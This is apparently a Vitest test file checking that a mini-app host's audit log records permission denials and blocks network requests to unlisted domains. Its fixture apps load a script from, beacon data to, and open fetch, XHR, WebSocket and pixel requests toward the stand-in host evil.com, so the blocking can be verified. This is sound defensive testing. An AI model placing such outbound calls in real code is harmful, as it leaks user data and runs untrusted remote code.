import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from './helpers/cli.js';
import { tempDir } from './helpers/host-fixtures.js';

describe('miniapp run --audit', () => {
  it('writes the run security events as JSON lines', async () => {
    const dir = tempDir();
    const app = join(dir, 'app');
    mkdirSync(app);
    writeFileSync(
      join(app, 'manifest.json'),
      JSON.stringify({ id: 'com.partner.audit', version: '1.0.0', minHostVersion: '3.0.0', entryPoint: 'index.html', permissions: ['storage'], allowedDomains: ['api.partner.com'] }),
    );
    writeFileSync(join(app, 'index.html'), '<script src="app.js"></script>');
    writeFileSync(
      join(app, 'app.js'),
      `
      MiniAppBridge.call('storage.set', { key: 'a', value: '1' });
      MiniAppBridge.call('payment.pay', { amount: 1, currency: 'EUR' }).catch(() => {});
      fetch('https://evil.com/x').catch(() => {});
    `,
    );
    const r = await runCli(['run', 'app', '--audit', 'audit.jsonl', '--data-dir', 'data', '--host-key-file', 'host.key', '--json'], { cwd: dir });
    expect(r.code).toBe(1); // the blocked request is a policy violation
    const events = readFileSync(join(dir, 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const types = events.map((e) => e.type);
    expect([types[0], types[1], ...types.slice(-2)]).toEqual(['host.start', 'app.launch', 'app.stop', 'host.stop']);
    expect(types.slice(2, -2).sort()).toEqual(['network.blocked', 'permission.denied', 'permission.granted', 'storage.access']);
    expect(events.find((e) => e.type === 'permission.denied')).toMatchObject({ method: 'payment.pay', permission: 'payment', code: 'PERMISSION_DENIED' });
    expect(events.find((e) => e.type === 'network.blocked')).toMatchObject({ app: 'com.partner.audit', url: 'https://evil.com/x' });
  });

  it('records every network decision as the policy makes it: allowed requests with method and status, refusals with a code', async () => {
    const dir = tempDir();
    const app = join(dir, 'app');
    mkdirSync(app);
    writeFileSync(
      join(app, 'manifest.json'),
      JSON.stringify({ id: 'com.partner.audit', version: '1.0.0', minHostVersion: '3.0.0', entryPoint: 'index.html', permissions: [], allowedDomains: ['api.partner.com'] }),
    );
    writeFileSync(join(app, 'index.html'), '<script src="https://evil.com/lib.js"></script><script src="app.js"></script>');
    writeFileSync(
      join(app, 'app.js'),
      `
      const x = new XMLHttpRequest();
      x.open('GET', 'https://evil.com/sync', false);
      x.send();
      fetch('https://api.partner.com/rates');
      fetch('https://api.partner.com/orders', { method: 'POST', body: '{}' });
      fetch('https://api.partner.com/missing').catch(() => {});
      fetch('https://evil.com/x').catch(() => {});
      new WebSocket('wss://evil.com/socket');
      new Image().src = 'https://evil.com/pixel.gif';
      navigator.sendBeacon('https://evil.com/beacon', 'x');
    `,
    );
    writeFileSync(
      join(dir, 'fixtures.json'),
      JSON.stringify({
        network: [
          { url: 'https://api.partner.com/rates', json: { eur: 1.1 } },
          { url: 'https://api.partner.com/orders', method: 'POST', status: 201, json: {} },
        ],
      }),
    );
    const r = await runCli(['run', 'app', '--audit', 'audit.jsonl', '--fixtures', 'fixtures.json', '--data-dir', 'data', '--host-key-file', 'host.key', '--json'], { cwd: dir });
    expect(r.code).toBe(1);
    const events = readFileSync(join(dir, 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const network = events.filter((e) => e.type.startsWith('network.'));
    expect(network).toHaveLength(9);
    expect(network).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ type: 'network.blocked', api: 'script', method: 'GET', url: 'https://evil.com/lib.js', code: 'DOMAIN_NOT_ALLOWED' }),
        expect.objectContaining({ type: 'network.blocked', api: 'xhr', method: 'GET', url: 'https://evil.com/sync', code: 'DOMAIN_NOT_ALLOWED' }),
        expect.objectContaining({ type: 'network.allowed', app: 'com.partner.audit', api: 'fetch', method: 'GET', url: 'https://api.partner.com/rates', status: 200 }),
        expect.objectContaining({ type: 'network.allowed', method: 'POST', url: 'https://api.partner.com/orders', status: 201 }),
        expect.objectContaining({ type: 'network.allowed', method: 'GET', url: 'https://api.partner.com/missing', code: 'NO_FIXTURE' }),
        expect.objectContaining({ type: 'network.blocked', method: 'GET', url: 'https://evil.com/x', code: 'DOMAIN_NOT_ALLOWED', reason: 'host evil.com is not in allowedDomains', hop: 0 }),
        expect.objectContaining({ type: 'network.blocked', api: 'websocket', url: 'wss://evil.com/socket', code: 'DOMAIN_NOT_ALLOWED' }),
        expect.objectContaining({ type: 'network.blocked', url: 'https://evil.com/pixel.gif', code: 'DOMAIN_NOT_ALLOWED' }),
        expect.objectContaining({ type: 'network.blocked', method: 'POST', url: 'https://evil.com/beacon', code: 'DOMAIN_NOT_ALLOWED' }),
      ]),
    );
    // Recorded live, inside the run: after the launch, before the stop.
    const seq = (type: string) => events.find((e) => e.type === type).seq;
    expect(network.every((e) => e.seq > seq('app.launch') && e.seq < seq('app.stop'))).toBe(true);
    // The report keeps its shape.
    expect(
      JSON.parse(r.stdout)
        .result.violations.map((v: { api: string; url: string }) => `${v.api} ${v.url}`)
        .sort(),
    ).toEqual([
      'fetch https://evil.com/beacon',
      'fetch https://evil.com/pixel.gif',
      'fetch https://evil.com/x',
      'script https://evil.com/lib.js',
      'websocket wss://evil.com/socket',
      'xhr https://evil.com/sync',
    ]);
  });
});
